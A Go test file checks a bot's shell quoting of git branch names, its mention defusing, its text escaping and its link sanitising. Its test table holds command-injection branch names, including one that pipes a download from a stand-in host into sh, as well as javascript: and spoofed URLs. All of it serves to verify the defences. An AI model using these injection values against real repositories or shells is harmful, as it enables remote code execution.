package policy

import (
	"os/exec"
	"strings"
	"testing"
)

// HostileRefNames are branch names git accepts (`git check-ref-format
// --branch`) that would run something, or mislead, if pasted raw.
var HostileRefNames = []string{
	"hotfix/$(curl${IFS}evil.sh|sh)",
	"hotfix/a;rm",
	"hotfix/`id`",
	"hotfix/a|b",
	"hotfix/it's",
	"hotfix/a&&b",
	"hotfix/$HOME",
	"hotfix/!x",
	"hotfix/a>b",
	"hotfix/{a,b}",
	"hotfix/#x",
	"hotfix/x\"y'z",
	"hotfix/%s%n",
	"hotfix/@org/team",
	"hotfix/-x",
	"release/1.5;touch${IFS}pwned",
	"hotfix/ünï",
}

// Every hostile name git accepts comes back out of a real sh exactly as
// it went in: quoted, it is one word and runs nothing.
func TestShellQuoteRoundTripsThroughSh(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh on this machine")
	}
	git, _ := exec.LookPath("git")
	dir := t.TempDir()
	for _, name := range append(HostileRefNames, "hotfix/payment-timeout", "v1.4.2") {
		if git != "" {
			if out, err := exec.Command(git, "check-ref-format", "--branch", name).CombinedOutput(); err != nil {
				t.Errorf("git does not accept %q (%s): the table should hold names git accepts", name, out)
			}
		}
		q, ok := ShellQuote(name)
		if !ok {
			t.Errorf("%q refused: %s", name, ShellProblem(name))
			continue
		}
		cmd := exec.Command(sh, "-c", "printf '%s' "+q+" "+q)
		cmd.Dir = dir
		out, err := cmd.Output()
		if err != nil || string(out) != name+name {
			t.Errorf("sh -c printf %s printed %q (%v), want %q twice", q, out, err, name)
		}
	}
	if left, _ := exec.Command("ls", "-A", dir).Output(); len(left) != 0 {
		t.Errorf("pasting the quoted names created files: %s", left)
	}
}

func TestShellQuote(t *testing.T) {
	for _, c := range []struct {
		name, want string
		ok         bool
	}{
		{"hotfix/payment-timeout", "hotfix/payment-timeout", true},
		{"v1.4.2", "v1.4.2", true},
		{"origin/release/1.5", "origin/release/1.5", true},
		{"hotfix/it's", `'hotfix/it'\''s'`, true},
		{"hotfix/`id`", "'hotfix/`id`'", true},
		{"hotfix/$(id)", "'hotfix/$(id)'", true},
		{"-x", "", false},
		{"", "", false},
		{"hotfix/\u202eevil", "", false},     // right-to-left override: shows other than runs
		{"hotfix/a\u200bb", "", false},       // zero width space
		{"hotfix/a\nb", "", false},           // a second command line
		{"hotfix/a\u2028b", "", false},       // a line separator
		{"hotfix/\xff", "", false},           // not UTF-8
		{"hotfix/\x1b[2Jx", "", false},       // a terminal escape
		{"hotfix/ünï", "'hotfix/ünï'", true}, // letters beyond ASCII are quoted, not refused
	} {
		got, ok := ShellQuote(c.name)
		if got != c.want || ok != c.ok {
			t.Errorf("ShellQuote(%q) = %q, %v; want %q, %v", c.name, got, ok, c.want, c.ok)
		}
		if !ok && ShellProblem(c.name) == "" {
			t.Errorf("%q refused without a reason", c.name)
		}
	}
	if r := ShellRefusal("branch", "-x"); !strings.Contains(r, "`-x`") || !strings.Contains(r, "option") || !strings.Contains(r, "git branch -m") {
		t.Errorf("refusal %q does not name the branch, why and what to do", r)
	}
}

func TestNoMention(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"ping @acme/everyone now", "ping @\u200dacme/everyone now"},
		{"@victim", "@\u200dvictim"},
		{"mail a@b.example", "mail a@\u200db.example"},
		{"@ alone, @@x", "@ alone, @@\u200dx"},
		{"nothing to do", "nothing to do"},
	} {
		if got := NoMention(c.in); got != c.want {
			t.Errorf("NoMention(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestUserText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"Fix <b>it</b> for `@acme/sre`", "Fix ‹b›it‹/b› for '@\u200dacme/sre'"},
		{"two\nlines\r\nhere", "two lines  here"},
		{"&#64;acme/sre &commat;x", "&amp;#64;acme/sre &amp;commat;x"},
		{"<!-- hotfix-bot:reply:1:1 -->", "‹!-- hotfix-bot:reply:1:1 --›"},
	} {
		if got := UserText(c.in, 200); got != c.want {
			t.Errorf("UserText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	if got := UserText(strings.Repeat("é", 100), 11); got != "ééééé…" {
		t.Errorf("cut = %q, want whole characters and an ellipsis", got)
	}
}

// A code span shows any name exactly and cannot be ended early.
func TestCode(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"hotfix/x", "`hotfix/x`"},
		{"a`@acme/sre`b", "``a`@acme/sre`b``"},
		{"``x", "``` ``x ```"},
		{"x ", "` x  `"},
		{"two\nlines", "`two lines`"},
		{"", "(empty)"},
	} {
		if got := Code(c.in); got != c.want {
			t.Errorf("Code(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSafeLink(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"https://ci.example.com/runs/12", "https://ci.example.com/runs/12"},
		{"https://ci.example.com/x) @acme/sre [y](z", "https://ci.example.com/x%29%20@acme/sre%20%5By%5D%28z"},
		{"javascript:alert(1)", ""},
		{"/relative/path", ""},
		{"https://github.com@evil.example/", ""},
		{"", ""},
	} {
		if got := SafeLink(c.in); got != c.want {
			t.Errorf("SafeLink(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
